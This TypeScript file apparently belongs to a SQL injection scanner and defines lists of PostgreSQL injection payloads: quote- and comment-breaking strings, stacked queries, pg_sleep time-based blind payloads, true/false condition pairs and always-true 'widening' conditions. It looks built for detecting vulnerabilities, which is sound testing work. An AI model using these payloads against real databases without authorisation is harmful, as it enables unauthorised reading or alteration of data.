/** A text that means something to SQL, with the place in a statement that it breaks out of. */
export interface SqlPayload {
  readonly id: string;
  readonly breaks: string;
  /** `marker` is a word that nothing else in the run contains. */
  text(marker: string): string;
}

/** One per context: whatever a statement is built around, one of these makes it a syntax error or names the marker. */
export const breakingPayloads: readonly SqlPayload[] = [
  { id: 'quote', breaks: "a text in '…'", text: (marker) => `${marker}'` },
  { id: 'identifier', breaks: 'a name in "…", or a bare one (ORDER BY)', text: (marker) => `${marker}"` },
  { id: 'bare-word', breaks: 'a bare name or number', text: (marker) => marker },
  { id: 'backslash', breaks: "a text in E'…' that doubles quotes", text: (marker) => `\\'${marker}` },
  { id: 'stacked', breaks: 'a statement that ends', text: (marker) => `1;SELECT ${marker};--` },
  { id: 'comment', breaks: 'a statement whose rest is cut off', text: (marker) => `1) /*${marker}` },
];

/** Sleeps where it is evaluated; the seconds are what the answer is late by. */
export const sleepingPayloads: readonly { readonly id: string; text(seconds: number): string }[] = [
  { id: 'concatenated', text: (seconds) => `'||(SELECT pg_sleep(${seconds})::text)||'` },
  { id: 'or', text: (seconds) => `' OR (SELECT pg_sleep(${seconds})) IS NULL OR '1'='2` },
  { id: 'expression', text: (seconds) => `(SELECT 1 FROM pg_sleep(${seconds}))` },
];

/**
 * What a search for any of these payloads finds: without a row to look at, a condition or a sleep that was injected into a search
 * is never evaluated. One text for all, so that a search which takes them as words answers each alike.
 */
export function textToBeFound(): string {
  const sleeps = sleepingPayloads.flatMap(({ text }) => [0, 1, 2].map(text));
  return [...sleeps, ...conditionPairs.flatMap(({ yes, no }) => [yes, no])].join('\n');
}

/** The same words to any search, and different conditions to a statement: one true, one false. */
export const conditionPairs: readonly { readonly id: string; readonly yes: string; readonly no: string }[] = [
  { id: 'text', yes: "zq7' OR 'a1'='a1", no: "zq7' OR 'a1'='a2" },
  { id: 'like', yes: "zq7%' OR 'a1' LIKE 'a1", no: "zq7%' OR 'a1' LIKE 'a2" },
  { id: 'text-and', yes: "zq7' AND 'a1'='a1", no: "zq7' AND 'a1'='a2" },
  { id: 'like-and', yes: "zq7%' AND 'a1' LIKE 'a1", no: "zq7%' AND 'a1' LIKE 'a2" },
  { id: 'number', yes: '1 OR 1=1', no: '1 OR 1=2' },
  { id: 'order', yes: '(CASE WHEN 1=1 THEN 1 ELSE 1/0 END)', no: '(CASE WHEN 1=2 THEN 1 ELSE 1/0 END)' },
];

/** The same for behind a valid value, which is the first half of the condition. */
export const conditionPairsBehind: typeof conditionPairs = [
  { id: 'text', yes: "' OR 'a1'='a1", no: "' OR 'a1'='a2" },
  { id: 'text-and', yes: "' AND 'a1'='a1", no: "' AND 'a1'='a2" },
  { id: 'number', yes: ' OR 1=1', no: ' OR 1=2' },
  { id: 'number-and', yes: ' AND 1=1', no: ' AND 1=2' },
  { id: 'order', yes: ', (CASE WHEN 1=1 THEN 1 ELSE 1/0 END)', no: ', (CASE WHEN 1=2 THEN 1 ELSE 1/0 END)' },
];

/** Conditions that every row meets: a statement that they become part of reaches more rows than it names. */
export const wideningPayloads: readonly { readonly id: string; readonly text: string; readonly behind: string }[] = [
  { id: 'text', text: "zq7' OR 'a1'='a1", behind: "' OR 'a1'='a1" },
  { id: 'number', text: '1 OR 1=1', behind: ' OR 1=1' },
];
